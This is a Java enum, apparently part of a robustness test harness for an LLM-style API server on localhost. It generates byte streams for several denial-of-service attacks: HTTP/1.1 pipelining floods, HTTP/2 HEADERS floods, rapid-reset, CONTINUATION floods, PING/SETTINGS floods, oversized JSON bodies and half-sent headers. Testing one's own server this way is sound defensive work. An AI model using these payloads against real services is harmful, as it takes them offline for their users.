package io.github.camelglm4.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.util.function.IntFunction;

/** What one connection of an attacker sends who knows no key: a beginning, and then the same again and again. Nothing is read. */
enum Attack {
    PIPELINED_REQUESTS(
            "",
            part -> "GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n"
                    .repeat(200)
                    .getBytes(US_ASCII)),

    HTTP2_HEAD_REQUESTS(null, part -> {
        Http2Frames frames = new Http2Frames();
        for (int i = 0; i < 100; i++) {
            frames.frame(Http2Frames.HEADERS, 5, 2 * (100 * part + i) + 1, Http2Frames.request("HEAD"));
        }
        return frames.toBytes();
    }),

    RAPID_RESETS(null, part -> {
        Http2Frames frames = new Http2Frames();
        for (int i = 0; i < 100; i++) {
            int stream = 2 * (100 * part + i) + 1;
            frames.frame(Http2Frames.HEADERS, 5, stream, Http2Frames.request("GET"))
                    .frame(Http2Frames.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
        }
        return frames.toBytes();
    }),

    CONTINUATIONS(null, part -> {
        Http2Frames frames = new Http2Frames();
        if (part == 0) {
            frames.frame(Http2Frames.HEADERS, 0, 1, Http2Frames.request("GET"));
        }
        for (int i = 0; i < 200; i++) {
            frames.frame(Http2Frames.CONTINUATION, 0, 1, new byte[0]);
        }
        return frames.toBytes();
    }),

    PINGS(null, part -> {
        Http2Frames frames = new Http2Frames();
        for (int i = 0; i < 200; i++) {
            frames.frame(Http2Frames.PING, 0, 0, new byte[8]).frame(Http2Frames.SETTINGS, 0, 0, new byte[0]);
        }
        return frames.toBytes();
    }),

    /** A request of 16 MB that would become more than 1 GB of maps. */
    LARGE_OBJECTS(
            "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    + "Content-Length: 16000000\r\n\r\n{\"model\":\"fast\",\"messages\":[",
            part -> "{\"a\":{}},".repeat(2_000).getBytes(US_ASCII)),

    HALF_HEADS(
            "GET /v1/models HTTP/1.1\r\n",
            part -> ("X-" + part + ": " + "a".repeat(1_000) + "\r\n").getBytes(US_ASCII));

    private final byte[] beginning;
    private final IntFunction<byte[]> parts;

    /** @param beginning null for the preface of HTTP/2 */
    Attack(String beginning, IntFunction<byte[]> parts) {
        this.beginning = beginning == null ? Http2Frames.preface().toBytes() : beginning.getBytes(US_ASCII);
        this.parts = parts;
    }

    byte[] part(int number) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        if (number == 0) {
            bytes.writeBytes(beginning);
        }
        bytes.writeBytes(parts.apply(number));
        return bytes.toByteArray();
    }
}
